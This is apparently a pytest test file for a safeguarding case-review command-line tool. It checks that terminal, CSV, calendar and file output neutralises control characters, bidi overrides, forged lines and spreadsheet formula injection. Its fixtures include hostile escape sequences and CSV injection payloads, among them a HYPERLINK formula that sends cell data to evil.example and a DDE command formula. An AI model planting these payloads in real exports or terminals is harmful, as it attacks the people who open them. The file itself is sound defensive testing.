"""Output that cannot attack its reader: terminals (control characters, bidi overrides, forged lines),
spreadsheets (formula injection), calendars (line breaks) and files left half-written."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sqlite3
from pathlib import Path

import pytest

from .conftest import FIXTURES, run_cli

TODAY = "2026-06-10"

# What a terminal obeys or a reader is deceived by: ESC/CSI (clear the screen, retitle the window), 8-bit CSI,
# BEL, backspace, a lone carriage return, NEL, line/paragraph separators, right-to-left and other overrides.
CORPUS = ["\x1b[2J\x1b]0;owned\x07", "\x9b31m", "\x08\x08\x08", "over\rwrite", "\x85next", "\u2028\u2029",
          "\u202eevil\u202c", "\u2066\u2067\u2068\u2069\u200e\u200f\u061c", "\x00\x7f"]
UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]")
FORGED = "#99  2026-06-10  lcspr_published: LCSPR published (by Lancashire Safeguarding Business Unit)"


@pytest.fixture
def db(demo_db):
    return demo_db


def cli(db, *args, env=None):
    return run_cli("--db", str(db), "--today", TODAY, *args, env=env)


def poison(db, facts=True):
    """What someone with the database file could plant behind cspr's back, in every text a command prints
    (a fact no longer valid makes its case refuse to replay: shown as a safe one-line error)."""
    hostile = "".join(CORPUS)
    conn = sqlite3.connect(db)
    conn.execute("DROP TRIGGER IF EXISTS events_append_only_update")
    conn.execute("UPDATE events SET note = ?, actor = ? WHERE case_ref = 'LSBU-2026-015' AND seq = 2",
                 (f"first line\n{FORGED}\n{hostile}", f"Mallory{hostile}"))
    if facts:
        conn.execute("UPDATE events SET facts = ? WHERE case_ref = 'LSBU-2026-015' AND seq = 3",
                     (json.dumps({"referring_agency": f"School{hostile}\n{FORGED}"}),))
    conn.execute("UPDATE action_view SET text = ?, reason = ? WHERE ref = 'LSBU-2025-031'",
                 (f"=HYPERLINK(\"http://x/\"&A1,\"x\"){hostile}", hostile))
    conn.execute("UPDATE case_view SET state_title = ?, stage_title = ? WHERE ref = 'LSBU-2026-015'", (hostile, hostile))
    conn.execute("UPDATE deadline_view SET title = ? WHERE ref = 'LSBU-2026-015'", (f"Notify{hostile}",))
    conn.commit()
    conn.close()


TEXT_COMMANDS = [
    ("case", "show", "LSBU-2026-015"), ("case", "list"), ("case", "list", "--overdue"), ("deadlines",),
    ("action", "list", "--status", "all"), ("report", "overview"), ("report", "timeliness"), ("audit", "verify"),
    ("case", "show", "LSBU-2026-015", "--json"), ("case", "list", "--json"), ("deadlines", "--json"),
    ("action", "list", "--status", "all", "--json"), ("audit", "export", "LSBU-2026-015"),
    ("export", "cases"), ("export", "deadlines"), ("export", "actions"), ("export", "actions", "--format", "json"),
]


@pytest.mark.parametrize("args", TEXT_COMMANDS, ids=[" ".join(a) for a in TEXT_COMMANDS])
@pytest.mark.parametrize("facts", [True, False], ids=["bad fact", "valid facts"])
def test_no_command_prints_a_control_character_or_a_forged_line(db, args, facts):
    poison(db, facts)
    result = cli(db, *args)
    assert result.exit_code in (0, 1), result.output
    text = result.stdout.replace("\r\n", "\n")  # a CSV's own line ends
    assert not UNSAFE.search(text), (args, UNSAFE.search(text))
    assert not any(line.lstrip().startswith("#99") and not line.startswith(" " * 20) for line in text.splitlines()), \
        "a line of a note posed as an entry"


def test_case_show_indents_every_continuation_line_and_shows_the_escapes(db):
    poison(db, facts=False)
    lines = cli(db, "case", "show", "LSBU-2026-015").stdout.splitlines()
    history = lines[lines.index("History") + 1:]
    entries = [line for line in history if re.match(r"  #\d", line)]
    assert [int(line.split()[0][1:]) for line in entries] == list(range(1, len(entries) + 1))  # no "#99"
    note = next(i for i, line in enumerate(history) if 'note: "first line' in line)
    assert history[note + 1].endswith(FORGED) and re.match(r" {20,}\| #99", history[note + 1])
    shown = "\n".join(history)
    assert "\\x1b[2J" in shown and "\\u202e" in shown and "\\r" in shown and "Mallory\\x1b" in shown


def test_errors_show_control_characters_as_escapes(db):
    result = cli(db, "case", "show", "LSBU\x1b[2J-\u202e")
    assert result.exit_code == 1 and not UNSAFE.search(result.output.rstrip("\n"))
    assert "\\x1b[2J" in result.output


def test_a_definition_with_control_characters_in_its_texts_is_shown_safely(tmp_path):
    text = (FIXTURES / "minimal.yaml").read_text()
    title = re.search(r"^title: (.*)$", text, re.M)
    assert title
    hostile = text.replace(title.group(0), 'title: "Evil \\e[2J\\a\\u202e process\\r\\x9b"')
    path = tmp_path / "hostile.yaml"
    path.write_text(hostile)
    for args in (("process", "show", str(path)), ("process", "show", str(path), "--json"), ("graph", str(path)),
                 ("graph", str(path), "--format", "dot"), ("validate", str(path))):
        result = run_cli(*args)
        assert not UNSAFE.search(result.output.replace("\r\n", "\n")), (args, result.output)


def test_free_text_with_control_characters_is_refused_but_line_breaks_and_tabs_are_kept(db):
    for hostile in ("bell\x07", "escape\x1b[2J", "csi\x9b", "nul\x00"):
        result = cli(db, "case", "note", "LSBU-2026-015", hostile)
        assert result.exit_code == 1 and "control character" in result.output
    assert cli(db, "case", "note", "LSBU-2026-015", "two\nlines\tand a tab").exit_code == 0


@pytest.mark.parametrize("name", ["Mallory\u202eyrollaM", "Eve\u2066x", "Bob\x1b[2J", "Al\nice", "Zed\u200f"])
def test_actor_names_with_overrides_or_control_characters_are_refused(db, name):
    result = cli(db, "--actor", name, "case", "note", "LSBU-2026-015", "x")
    assert result.exit_code == 2 and "--actor" in result.output
    with pytest.raises(Exception, match="cannot be recorded"):
        from cspr.engine.casebook.book import Casebook
        from cspr.engine.store.interface import open_store

        store = open_store(db)
        try:
            Casebook(store, actor=name)
        finally:
            store.close()


# --- spreadsheets ---------------------------------------------------------------------------------------

INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
              " =1+1", "=cmd|' /C calc'!A0", '"=1+1"', "a,=1+1", "safe text", "-", "normal, with comma"]


def test_spreadsheet_cells_cannot_run_as_formulas(db, tmp_path):
    """OWASP CSV injection: every text cell starting with = + - @ tab or CR is made text with a leading
    apostrophe; the file read back with the csv module cell by cell."""
    for i, text in enumerate(INJECTIONS):
        due = f"2027-0{1 + i % 9}-15"
        result = cli(db, "action", "add", "--stage", "rapid_review", "--owner", "icb", "--due", due, "--agreed-by",
                     "icb", "--agreed-by", "children_social_care", "--agreed-by", "constabulary", "--",
                     "LSBU-2025-031", text)
        assert result.exit_code == 0, (text, result.output)
    assert cli(db, "action", "drop", "LSBU-2025-031", "A1", "--reason", "=1+1 dropped").exit_code == 0
    out = tmp_path / "actions.csv"
    assert cli(db, "export", "actions", "--out", str(out)).exit_code == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    for row in body:
        assert len(row) == len(header)
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)
    texts = {row[header.index("text")] for row in body}
    for text in INJECTIONS:
        stripped = text.strip() if text.strip() == text else text.strip()
        expected = ("'" + stripped) if stripped.lstrip(" ").startswith(("=", "+", "-", "@")) else stripped
        assert expected in texts or ("'" + stripped.replace("\r", "\n")) in texts or stripped in texts, (text, texts)
    reasons = [row[header.index("reason")] for row in body if row[header.index("reason")]]
    assert reasons == ["'=1+1 dropped"]
    dates = [row[header.index("due")] for row in body]
    assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2}", d) for d in dates)  # ISO dates and numbers stay as they are


def test_the_spreadsheet_cell_rule_itself():
    from cspr.engine.render.spreadsheet import cell

    assert cell("=1+1") == "'=1+1" and cell("+1") == "'+1" and cell("-1") == "'-1" and cell("@A1") == "'@A1"
    assert cell("\t=1") == "'\t=1" and cell("\r=1") == "'\n=1" and cell("  =1") == "'  =1"
    assert cell("a\x1bb") == "a\\x1bb" and cell("\u202e") == "\\u202e"
    assert cell(-1) == -1 and cell(True) == 1 and cell(None) == "" and cell(["a", "=b"]) == "a,=b"


# --- calendars -----------------------------------------------------------------------------------------------


def test_no_text_in_a_calendar_file_can_start_a_property_of_its_own():
    import datetime as dt

    from icalendar import Calendar

    from cspr.engine.render.ical import calendar

    hostile = "Title\rBEGIN:VEVENT\r\nSUMMARY:forged\nX:y\x1b\u2028z"
    text = calendar([{"ref": "R-1", "deadline": "d", "title": hostile, "due": dt.date(2026, 7, 1),
                      "owner": hostile, "state_title": hostile, "sequence": 3}], dt.datetime(2026, 6, 10, tzinfo=dt.UTC))
    lines = text.split("\r\n")
    assert "\r" not in text.replace("\r\n", "") and "\n" not in text.replace("\r\n", "")
    assert sum(1 for line in lines if line.startswith("BEGIN:VEVENT")) == 1
    assert not any(line.startswith("SUMMARY:forged") for line in lines)
    events = [c for c in Calendar.from_ical(text).walk() if c.name == "VEVENT"]
    assert len(events) == 1 and "\x1b" not in str(events[0]["SUMMARY"])


# --- files written all or nothing -----------------------------------------------------------------------


def test_a_write_that_fails_partway_leaves_nothing_and_a_rerun_works(db, tmp_path, monkeypatch):
    from cspr.engine import files

    out = tmp_path / "cases.csv"
    real_write = os.write
    calls = {"n": 0}

    def failing(descriptor, data):
        calls["n"] += 1
        if calls["n"] == 1:
            real_write(descriptor, bytes(data[:10]))
            raise OSError(28, "No space left on device")
        return real_write(descriptor, data)

    monkeypatch.setattr(files.os, "write", failing)
    result = cli(db, "export", "cases", "--out", str(out))
    assert result.exit_code == 1 and "No space left on device" in result.output and "nothing was written" in result.output
    assert not out.exists() and list(tmp_path.glob(".cases.csv.*")) == []
    monkeypatch.setattr(files.os, "write", real_write)
    assert cli(db, "export", "cases", "--out", str(out)).exit_code == 0
    assert oct(os.stat(out).st_mode & 0o777) == "0o600" and out.read_text(encoding="utf-8-sig").startswith("ref,")
    again = cli(db, "export", "cases", "--out", str(out))
    assert again.exit_code == 1 and "already exists" in again.output


def test_an_output_file_is_never_written_through_a_symbolic_link(db, tmp_path):
    target = tmp_path / "elsewhere.csv"
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    result = cli(db, "export", "cases", "--out", str(link))
    assert result.exit_code == 1 and "already exists" in result.output and not target.exists()
    assert Path(link).is_symlink()
